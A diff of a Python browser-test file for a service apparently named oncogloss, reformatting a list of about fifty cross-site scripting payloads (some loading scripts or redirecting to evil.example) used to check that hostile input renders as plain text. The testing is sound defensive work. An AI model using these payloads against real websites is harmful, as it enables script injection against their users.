@@ -8,8 +8,8 @@ from collections.abc import Iterator
 from pathlib import Path
 
 import pytest
-
 from browsing import CHROMIUM, EXPECTED, serving
+
 from oncogloss.service.app import Settings
 from oncogloss.service.keys import new_key
 
@@ -213,23 +213,58 @@ def test_dark_is_dark_and_print_is_the_text_alone(page: Page) -> None:
     picture(page, "print")
 
 
-ATTACKS = (
-    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<svg onload=alert(1)>", "<svg/onload=alert`1`>",
-    "<iframe src=javascript:alert(1)>", "<body onload=alert(1)>", '"><script>alert(1)</script>', "'><img src=x onerror=alert(1)>",
-    "<a href=javascript:alert(1)>a</a>", "<details open ontoggle=alert(1)>", "<video><source onerror=alert(1)>",
-    "<math><mtext><script>alert(1)</script>", "<input autofocus onfocus=alert(1)>", "<marquee onstart=alert(1)>",
-    "<object data=javascript:alert(1)>", "<embed src=javascript:alert(1)>", "<link rel=stylesheet href=//evil.example/x>",
-    "<meta http-equiv=refresh content='0;url=//evil.example'>", "<base href=//evil.example/>", "<style>@import '//evil.example/x'</style>",
-    "<img src=//evil.example/x.png>", "<form action=//evil.example><button>x</button></form>", "</textarea><script>alert(1)</script>",
-    "</title><script>alert(1)</script>", "<!--><script>alert(1)</script>-->", "<template><script>alert(1)</script></template>",
-    "<noscript><img src=x onerror=alert(1)></noscript>", "<script src=//evil.example/x.js></script>", "<script type=module>alert(1)</script>",
-    "<svg><script>alert(1)</script></svg>", "<svg><animate onbegin=alert(1) attributeName=x>", "<svg><use href=//evil.example/x#y>",
-    "<audio src=x onerror=alert(1)>", "<select autofocus onfocus=alert(1)>", "<textarea autofocus onfocus=alert(1)>",
-    "javascript:alert(1)", "data:text/html,<script>alert(1)</script>", "{{constructor.constructor('alert(1)')()}}", "${alert(1)}",
-    "`;alert(1);//", "';alert(1);//", '";alert(1);//', "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e", "&lt;script&gt;alert(1)&lt;/script&gt;",
-    "<ScRiPt>alert(1)</sCrIpT>", "<<script>alert(1)//<</script>", "<img src='x' onerror='alert&#40;1&#41;'>", "<x onclick=alert(1)>x</x>",
-    "<button popovertarget=a onclick=alert(1)>x</button>", "<dialog open onclose=alert(1)><form method=dialog>",
-)  # fmt: skip
+ATTACKS = r"""
+<script>alert(1)</script>
+<img src=x onerror=alert(1)>
+<svg onload=alert(1)>
+<svg/onload=alert`1`>
+<iframe src=javascript:alert(1)>
+<body onload=alert(1)>
+"><script>alert(1)</script>
+'><img src=x onerror=alert(1)>
+<a href=javascript:alert(1)>a</a>
+<details open ontoggle=alert(1)>
+<video><source onerror=alert(1)>
+<math><mtext><script>alert(1)</script>
+<input autofocus onfocus=alert(1)>
+<marquee onstart=alert(1)>
+<object data=javascript:alert(1)>
+<embed src=javascript:alert(1)>
+<link rel=stylesheet href=//evil.example/x>
+<meta http-equiv=refresh content='0;url=//evil.example'>
+<base href=//evil.example/>
+<style>@import '//evil.example/x'</style>
+<img src=//evil.example/x.png>
+<form action=//evil.example><button>x</button></form>
+</textarea><script>alert(1)</script>
+</title><script>alert(1)</script>
+<!--><script>alert(1)</script>-->
+<template><script>alert(1)</script></template>
+<noscript><img src=x onerror=alert(1)></noscript>
+<script src=//evil.example/x.js></script>
+<script type=module>alert(1)</script>
+<svg><script>alert(1)</script></svg>
+<svg><animate onbegin=alert(1) attributeName=x>
+<svg><use href=//evil.example/x#y>
+<audio src=x onerror=alert(1)>
+<select autofocus onfocus=alert(1)>
+<textarea autofocus onfocus=alert(1)>
+javascript:alert(1)
+data:text/html,<script>alert(1)</script>
+{{constructor.constructor('alert(1)')()}}
+${alert(1)}
+`;alert(1);//
+';alert(1);//
+";alert(1);//
+\u003cscript\u003ealert(1)\u003c/script\u003e
+&lt;script&gt;alert(1)&lt;/script&gt;
+<ScRiPt>alert(1)</sCrIpT>
+<<script>alert(1)//<</script>
+<img src='x' onerror='alert&#40;1&#41;'>
+<x onclick=alert(1)>x</x>
+<button popovertarget=a onclick=alert(1)>x</button>
+<dialog open onclose=alert(1)><form method=dialog>
+""".strip().split("\n")
 
 
 def test_attacks_stay_words(page: Page, tmp_path: Path) -> None:
@@ -257,12 +292,12 @@ def test_attacks_in_what_the_service_answers_stay_words(page: Page) -> None:
     attack = "x onmouseover=alert(1) <img src=x onerror=alert(1)>"
     concept = {"id": attack, "name": attack, "match": "name", "score": 1, "drug_class": attack, "targets": [attack],
                "members": [attack], "xrefs": [attack]}  # fmt: skip
-    mention = {"id": attack, "passage": "p", "start": 0, "end": 4, "text": attack, "type": attack, "attributes": [attack],
-               "score": 1, "concept": concept, "expansion": attack}  # fmt: skip
+    mention = {"id": attack, "passage": "p", "start": 0, "end": 4, "text": attack, "type": attack,
+               "attributes": [attack], "score": 1, "concept": concept, "expansion": attack}  # fmt: skip
     found = {
         "document": {"id": attack, "passages": [{"name": "p", "text": "ECOG 0-1"}]},
-        "extraction": {"id": attack, "model": {"name": attack, "version": attack}, "mentions": [mention], "relations": [],
-                       "criteria": [], "thresholds": [], "arms": [], "endpoints": [], "coverage": [],
+        "extraction": {"id": attack, "model": {"name": attack, "version": attack}, "mentions": [mention],
+                       "relations": [], "criteria": [], "thresholds": [], "arms": [], "endpoints": [], "coverage": [],
                        "flags": [{"kind": attack, "message": attack}],
                        "summary": {"cancers": [attack], "stages": [], "treatments": [], "biomarkers": [], "lines": [],
                                    "prior_treatments": [], "washouts": [], "age": [None, None], "sex": attack}},
